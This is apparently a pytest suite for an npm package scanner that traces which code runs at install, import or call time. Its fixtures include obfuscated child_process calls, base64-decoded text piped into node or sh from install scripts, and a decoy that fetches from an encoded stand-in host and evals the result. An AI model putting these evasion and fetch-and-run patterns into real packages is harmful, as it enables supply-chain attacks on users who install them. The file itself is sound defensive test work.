"""npm packages as a whole: what is read of them, when it runs, and where its facts are told."""

from __future__ import annotations

import json
from base64 import b64encode
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.scanner.code.npm.reading import Sources

if TYPE_CHECKING:
    from collections.abc import Mapping

    from assay.scanner.code.facts import CallFact
    from assay.scanner.code.gathered import Reading
    from assay.scanner.code.package import PackageCode

SPAWN = "require('child_process').exec('prog')\n"


def reading(
    files: Mapping[str, str | bytes],
    fields: Mapping[str, object] | None = None,
    *,
    packed: str = "tarball",
    every: bool = False,
) -> Reading:
    contents: dict[str, str | bytes] = {"package.json": json.dumps({"name": "me", **(fields or {})}), **files}
    sources = Sources(every=every)
    for path, data in contents.items():
        sources.take(path, data if isinstance(data, bytes) else data.encode())
    return sources.finish(packed, contents)


def code_of(
    files: Mapping[str, str | bytes], fields: Mapping[str, object] | None = None, *, every: bool = True
) -> PackageCode:
    code = reading(files, fields, every=every).code
    assert code is not None
    return code


def started(code: PackageCode) -> dict[str, tuple[str, str, int]]:
    """By what is started, the trigger, the file and the line."""
    modules = {module.name: module for module in code.modules}
    return {
        said(call): (modules[call.where.module].trigger, modules[call.where.module].path, call.where.place.line)
        for call in code.facts.calls
        if "process" in call.kinds
    }


def said(call: CallFact) -> str:
    return " ".join(call.arguments[0].value.strings) if call.arguments else ""


TAKEN = [
    ("index.js", b"", True),
    ("a.mjs", b"", True),
    ("a.ts", b"", True),
    ("a.tsx", b"", True),
    ("bin/tool", b"#!/usr/bin/env node\n", True),
    ("bin/tool", b"#!/bin/sh\n", False),
    ("bin/tool", b"\x7fELF", False),
    ("a.d.ts", b"", False),
    ("README.md", b"", False),
    ("data.json", b"{}", False),
    ("x.sh", b"", False),
    ("package.json", b"{}", False),
]


@pytest.mark.parametrize(("path", "data", "expected"), TAKEN)
def test_which_files_are_code(path: str, data: bytes, expected: bool) -> None:
    assert Sources().take(path, data) is expected


def test_code_and_manifests_that_are_too_large_are_gaps() -> None:
    sources = Sources()
    assert not sources.take("a.js", None)
    assert not sources.take("a.bin", None)
    assert not sources.take("package.json", None)
    found = sources.finish("tarball", ["a.js", "a.bin", "package.json"]).unread
    assert [(one.path, one.reason) for one in found] == [("a.js", "too-large"), ("package.json", "too-large")]


def test_a_manifest_that_cannot_be_read_is_a_gap() -> None:
    sources = Sources()
    sources.take("package.json", b"{")
    assert [one.path for one in sources.finish("tarball", ["package.json"]).unread] == ["package.json"]


def test_a_long_number_does_not_hide_what_a_manifest_runs() -> None:
    text = '{"name": "me", "long": ' + "1" * 5_000 + ', "scripts": {"install": "node a.js"}}'
    found = reading({"package.json": text, "a.js": SPAWN})
    assert found.code is not None
    assert (started(found.code)["prog"][0], found.unread) == ("install", ())


@pytest.mark.parametrize(("line", "expected"), [("node x.txt", ["x.txt"]), ("cat x.txt | sh", []), ("node y", [])])
def test_what_runs_and_is_not_read_is_a_gap(line: str, expected: list[str]) -> None:
    found = reading({"x.txt": "prog", "z.txt": "", "y.js": ""}, {"scripts": {"install": line}}).unread
    assert [(one.path, one.reason) for one in found] == [(path, "not-code") for path in expected]


def test_a_package_without_code_and_scripts_has_none() -> None:
    assert reading({"README.md": "x"}, {"scripts": {"test": "x"}}).code is None


def test_each_file_runs_when_something_reaches_it() -> None:
    files = {
        "index.js": "require('./lib/a')",
        "lib/a.js": SPAWN.replace("prog", "import"),
        "lib/b.js": SPAWN.replace("prog", "call"),
        "test/c.js": SPAWN.replace("prog", "test"),
        "setup.js": "import('./lib/d.js')",
        "lib/d.js": SPAWN.replace("prog", "install"),
    }
    code = code_of(files, {"scripts": {"install": "node setup"}})
    assert {what: trigger for what, (trigger, _, _) in started(code).items()} == {
        **{name: name for name in ("import", "call", "test", "install")},
        "node setup": "install",
    }
    traces = {module.path: module.trace for module in code.modules}
    assert traces["lib/a.js"] == ("index.js", "lib/a.js")
    assert traces["lib/d.js"] == ("package.json scripts.install", "setup.js", "lib/d.js")


def test_what_an_evaluated_file_loads_only_when_called_is_not_loaded_on_import() -> None:
    files = {"index.js": "exports.f = function () { require('./lib/a') }", "lib/a.js": SPAWN}
    assert started(code_of(files))["prog"][0] == "call"


LINE = 5
"""Of the first script in a manifest as ``indented`` writes it."""


def indented(line: str) -> dict[str, str]:
    text = json.dumps({"name": "me", "version": "1", "scripts": {"postinstall": line}}, indent=1)
    return {"package.json": text.replace('"scripts"', '\n "scripts"')[:-1].rstrip() + "\n}"}


INLINE = [
    'node -e "' + SPAWN.strip() + '"',
    "echo '" + SPAWN.strip().replace("'", '"') + "' | node",
    f"echo {b64encode(SPAWN.encode()).decode()} | base64 -d | node",
    "python3 -c \"import os; os.system('prog')\"",
    "sh -c 'node -e \"require(`child_process`).exec(`prog`)\"'",
]


@pytest.mark.parametrize("line", INLINE)
def test_text_in_a_script_is_code_that_stands_where_the_script_does(line: str) -> None:
    found = started(code_of(indented(line)))
    trigger, path, _ = found["prog"]
    assert (trigger, path) == ("install", "package.json")


def test_text_that_was_decoded_first_stands_in_a_layer() -> None:
    line = f"echo {b64encode(SPAWN.encode()).decode()} | base64 -d | node"
    code = code_of({}, {"scripts": {"postinstall": line}})
    (call,) = [call for call in code.facts.calls if said(call) == "prog"]
    assert code.facts.layers[call.where.layer - 1].encodings == ("base64",)
    assert code.facts.layers[call.where.layer - 1].number == call.where.layer


def test_lines_that_were_decoded_first_stand_in_a_layer() -> None:
    line = f"echo {b64encode(b'prog --flag').decode()} | base64 -d | sh"
    code = code_of({"index.js": "eval(atob('MSsx'))"}, {"scripts": {"postinstall": line}})
    (call,) = [call for call in code.facts.calls if said(call) == "prog --flag"]
    layer = code.facts.layers[call.where.layer - 1]
    assert (layer.number, layer.encodings, layer.sink) == (call.where.layer, ("base64",), "process")


def test_lines_of_a_shell_file_stand_in_it() -> None:
    files = {"go.sh": "#!/bin/sh\n\nset -e\nprog --flag\n"}
    found = started(code_of(files, {"scripts": {"install": "./go.sh"}}))
    assert found["prog --flag"] == ("install", "go.sh", 4)


NESTED = ["echo $(echo $(node a.js))", 'X="$(ls "$(node a.js)")"', "echo `echo $(cat <(node a.js))`"]


@pytest.mark.parametrize("line", NESTED)
def test_what_runs_within_substitutions_within_substitutions_is_read(line: str) -> None:
    found = started(code_of({"a.js": SPAWN}, {"scripts": {"install": line}}, every=False))
    assert found["prog"] == ("install", "a.js", 1)


def test_build_files_that_binding_gyp_names_are_read() -> None:
    files = {
        "binding.gyp": "{'includes': ['build/all.gypi'], 'targets': [{'dependencies': ['deps/one.gyp:one']}]}",
        "build/all.gypi": "{'includes': ['../binding.gyp'],\n 'x': '<!(node build/a.js)'}",
        "deps/one.gyp": "{'x': ['<!(node b.js)']}",
        "build/a.js": SPAWN,
        "deps/b.js": SPAWN.replace("prog", "other"),
        "never.gyp": "{'x': '<!(never)'}",
    }
    found = started(code_of(files, every=False))
    assert found["node build/a.js"] == ("install", "build/all.gypi", 2)
    assert (found["prog"][:2], found["other"][:2]) == (("install", "build/a.js"), ("install", "deps/b.js"))
    assert "never" not in found


def test_python_that_scripts_run_is_read_with_what_lies_beside_it() -> None:
    files = {
        "tools/make.py": "import helper\n",
        "tools/helper.py": "import os\nos.system('prog')\n",
        "tools/other.py": "import os\nos.system('other')\n",
        "more/c.py": "import os\nos.system('never')\n",
    }
    found = started(code_of(files, {"scripts": {"install": "python3 tools/make.py"}}))
    assert found["prog"] == ("install", "tools/helper.py", 2)
    assert found["other"][0] == "call"
    assert "never" not in found


STARTS = [
    "require('child_process').fork('./b.js')",
    "require('child_process').fork(require('path').join(__dirname, 'b.js'))",
    "require('child_process').spawn('node', ['b.js'], {detached: true}).unref()",
    "require('child_process').exec('node ' + __dirname + '/b.js')",
    "new (require('worker_threads').Worker)('./b.js')",
]


@pytest.mark.parametrize("source", STARTS)
def test_what_code_starts_at_install_runs_at_install(source: str) -> None:
    code = code_of({"a.js": source, "b.js": SPAWN, "c.js": ""}, {"scripts": {"install": "node a.js"}})
    triggers = {module.path: module.trigger for module in code.modules}
    assert triggers["b.js"] == "install"
    assert triggers["c.js"] == "call"


def test_files_that_start_one_another_are_followed_to_the_last() -> None:
    files = {f"a{at}.js": f"require('child_process').fork('./a{at + 1}.js')" for at in range(8)}
    code = code_of({**files, "a8.js": SPAWN}, {"scripts": {"install": "node a0.js"}}, every=False)
    assert started(code)["prog"] == ("install", "a8.js", 1)


def test_files_that_start_too_many_others_in_turn_are_a_gap() -> None:
    files = {f"a{at}.js": f"require('child_process').fork('./a{at + 1}.js')" for at in range(64)}
    found = reading({**files, "a64.js": SPAWN}, {"scripts": {"install": "node a0.js"}}).unread
    assert [one.reason for one in found] == ["code-budget"]


PADDING = "var a = 1;\n" * 14_000
"""More than is parsed whole of a file in which nothing was met."""

NAMES_ELSEWHERE = {
    "names.js": "module.exports = [['child', 'process'], ['ex', 'ec']]",
    "go.js": "const n = require('./names'); const k = n[0].join('_'); require(k)[n[1].join('')]('prog')\n",
}


@pytest.mark.parametrize("padding", ["", PADDING, PADDING * 4])
def test_what_runs_at_install_is_parsed_though_nothing_was_met_in_it(padding: str) -> None:
    files = {**NAMES_ELSEWHERE, "go.js": NAMES_ELSEWHERE["go.js"] + padding}
    code = code_of(files, {"scripts": {"install": "node go.js"}}, every=False)
    assert started(code)["prog"] == ("install", "go.js", 1)


@pytest.mark.parametrize(
    "files",
    [
        {"go.js": NAMES_ELSEWHERE["go.js"] + PADDING * 8},
        {f"a{at:02}.js": PADDING[: 1 << 17] for at in range(32)},
    ],
    ids=["large", "late"],
)
def test_what_runs_at_install_and_was_not_held_is_a_gap(files: dict[str, str]) -> None:
    found = reading({**files, **NAMES_ELSEWHERE, **files}, {"scripts": {"install": "node go.js"}})
    assert [one.reason for one in found.unread] == ["code-budget"]


DECOY = "exports.find = (x) => fetch(atob('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv') + x).then(eval);\n"


def test_what_runs_at_install_is_parsed_whole_whatever_was_met_in_it() -> None:
    files = {**NAMES_ELSEWHERE, "go.js": DECOY + PADDING * 4 + NAMES_ELSEWHERE["go.js"]}
    code = code_of(files, {"scripts": {"install": "node go.js"}}, every=False)
    assert started(code)["prog"][:2] == ("install", "go.js")


def test_what_runs_at_install_and_was_read_in_parts_is_a_gap() -> None:
    files = {**NAMES_ELSEWHERE, "go.js": DECOY + PADDING * 20 + NAMES_ELSEWHERE["go.js"]}
    found = reading(files, {"scripts": {"install": "node go.js"}}, every=False).unread
    assert [(one.path, one.reason) for one in found] == [("go.js", "code-budget")]


def test_files_that_are_loaded_from_another_window_run_when_they_are_loaded() -> None:
    pad = "//" + "x y" * 33_000 + "\n"
    files = {f"a{at:02}.js": f"{pad}require('./a{at + 1:02}')" for at in range(20)}
    code = code_of({**files, "a20.js": SPAWN}, {"scripts": {"install": "node a00.js"}}, every=False)
    assert started(code)["prog"] == ("install", "a20.js", 1)


MANY_SCRIPTS = [
    {"scripts": {"install": "; ".join(f"node -e 'x({at})'" for at in range(300))}},
    {"scripts": {"install": "node a.js"}},
    {"scripts": {"install": "node-gyp rebuild"}},
]


@pytest.mark.parametrize("fields", MANY_SCRIPTS, ids=["texts", "commands-of-code", "commands-of-gyp"])
def test_more_commands_than_are_followed_are_a_gap(fields: dict[str, object]) -> None:
    commands = (f"require('child_process').exec('prog {at}')\n" for at in range(300))
    gyp = "{'x': [" + ",".join(f"'<!(prog {at})'" for at in range(300)) + "]}"
    files = {"a.js": "".join(commands)} | ({"binding.gyp": gyp} if "gyp" in str(fields) else {})
    found = reading(files, fields).unread
    assert [(one.path, one.reason) for one in found] == [("package.json", "code-budget")]


def test_a_long_command_of_gyp_is_read_to_its_end() -> None:
    files = {"binding.gyp": "{'x': ['<!(echo " + "a " * 6_000 + "; node go.js)']}", "go.js": SPAWN}
    assert started(code_of(files))["prog"][:2] == ("install", "go.js")


@pytest.mark.parametrize(
    ("exports", "gaps"),
    [
        ({f"./{at}": f"./lib/{at}/*" for at in range(65)}, ["code-budget"]),
        ({f"./{at}": f"./lib/{at}.js" for at in range(5_000)}, ["code-budget"]),
        ({f"./{at}": f"./lib/{at}/*" for at in range(64)}, []),
    ],
    ids=["patterns", "files", "few"],
)
def test_exports_that_are_not_all_looked_up_are_a_gap(exports: dict[str, str], gaps: list[str]) -> None:
    assert [one.reason for one in reading({"index.js": SPAWN}, {"exports": exports}).unread] == gaps


@pytest.mark.parametrize(
    ("load", "content", "gaps"),
    [
        ("require('./data.txt')", SPAWN + "\0", [("data.txt", "not-code")]),
        ("require('./data.txt')", SPAWN + "//" + "x" * (1 << 18), [("data.txt", "not-code")]),
        ("require('./data.txt')", "", []),
        ("exports.load = () => readFile('./data.txt')", SPAWN + "\0", []),
    ],
)
def test_what_is_loaded_and_was_not_held_is_a_gap(load: str, content: str, gaps: list[tuple[str, str]]) -> None:
    found = reading({"index.js": f"{SPAWN};{load}", "data.txt": content}).unread
    assert [(one.path, one.reason) for one in found] == gaps


def test_a_picture_that_is_loaded_is_no_gap() -> None:
    assert reading({"index.js": f"{SPAWN};require('./a.png')", "a.png": "\0PNG"}).unread == ()


@pytest.mark.parametrize(("root", "trigger"), [(True, "install"), (False, "call")])
def test_what_settings_have_node_load_runs_in_projects(root: bool, trigger: str) -> None:
    sources = Sources(every=True)
    files = {"package.json": b'{"name": "me"}', ".npmrc": b"fund=false\nnode-options = --require ./a.js\n"}
    files["a.js"] = SPAWN.encode()
    for path, data in files.items():
        sources.take(path, data)
    code = sources.finish("source", files, root=root).code
    assert code is not None
    assert started(code)["prog"][0] == trigger


FED = [
    "require('child_process').exec('/bin/bash go.sh')",
    "require('child_process').spawn('sh', [__dirname + '/go.sh'])",
    "require('child_process').spawn('cmd.exe', ['/c', 'go.bat'])",
    "require('child_process').execFile('./go.sh')",
]


@pytest.mark.parametrize("source", FED)
def test_shell_files_that_code_starts_are_read(source: str) -> None:
    files = {"a.js": source, "go.sh": "\nprog --flag\n", "go.bat": "\r\nprog --flag\r\n", "other.sh": "other"}
    found = started(code_of(files, {"scripts": {"install": "node a.js"}}))
    assert found["prog --flag"] == ("install", "go.bat" if "bat" in source else "go.sh", 2)
    assert "other" not in found


def test_text_that_code_gives_to_an_interpreter_is_read() -> None:
    source = "require('child_process').exec('node -e \"require(`child_process`).exec(`prog`)\"')"
    found = started(code_of({"a.js": "\n" + source}, {"scripts": {"install": "node a.js"}}))
    assert found["prog"] == ("install", "a.js", 2)


def test_data_that_code_loads_is_known() -> None:
    files = {"index.js": "require('child_process').exec(require('./data').line)", "data.json": '{"line": "prog"}'}
    assert started(code_of(files))["prog"][0] == "import"


def test_windows_of_a_large_package_are_numbered_on() -> None:
    layers = {f"lib/{name}.js": f"eval(atob('{b64encode(SPAWN.encode()).decode()}'))\n" for name in "abc"}
    large = {name: text + "//" + "x" * 700_000 for name, text in layers.items()}
    code = code_of(large)
    assert [layer.number for layer in code.facts.layers] == [1, 2, 3]
    by_layer = {call.where.layer: call.where.module for call in code.facts.calls if said(call) == "prog"}
    assert by_layer == {layer.number: layer.where.module for layer in code.facts.layers}


def test_a_large_file_is_read_around_what_was_met_in_it() -> None:
    inner = "var a = 1;\n" * 30_000
    layer = b64encode(SPAWN.encode()).decode()
    files = {"index.js": f"{inner}eval(atob('{layer}'))\n{inner}var b = require('./b')", "b.js": ""}
    code = code_of(files, every=False)
    (found,) = code.facts.layers
    assert (found.where.module, found.where.place.line) == ("index.js", 30_001)
    assert {module.path: module.trigger for module in code.modules}["b.js"] == "import"


NAMES = st.sampled_from(["index.js", "a.js", "lib/b.mjs", "go.sh", "x.py", "binding.gyp", "d.json", "bin/t"])
TEXTS = st.sampled_from(
    [
        "",
        SPAWN,
        "require('./lib/b')",
        "#!/bin/sh\nnode a.js",
        "import './a'",
        "{'x': ['<!(node a.js)']}",
        "import os",
        "{",
    ]
)
SCRIPTS = st.sampled_from(
    ["node a", "sh go.sh", "node -e 'x('", "python x.py", "npm run install", "$(", "node ../a", "bin/t"]
)


@given(
    st.dictionaries(NAMES, TEXTS, max_size=5),
    st.dictionaries(st.sampled_from(["install", "prepare", "x"]), SCRIPTS, max_size=3),
    st.sampled_from(["tarball", "installed", "source"]),
)
def test_every_fact_has_its_module(files: dict[str, str], scripts: dict[str, str], packed: str) -> None:
    code = reading(files, {"scripts": scripts}, packed=packed).code
    if code is None:
        return
    names = [module.name for module in code.modules]
    assert names == sorted(set(names))
    assert {fact.where.module for kind in code.facts for fact in kind} <= set(names)
    assert {name for flow in code.facts.flows for name, _, _ in flow.chain} <= set(names)
    assert all(module.trigger in ("install", "import", "call", "test") for module in code.modules)
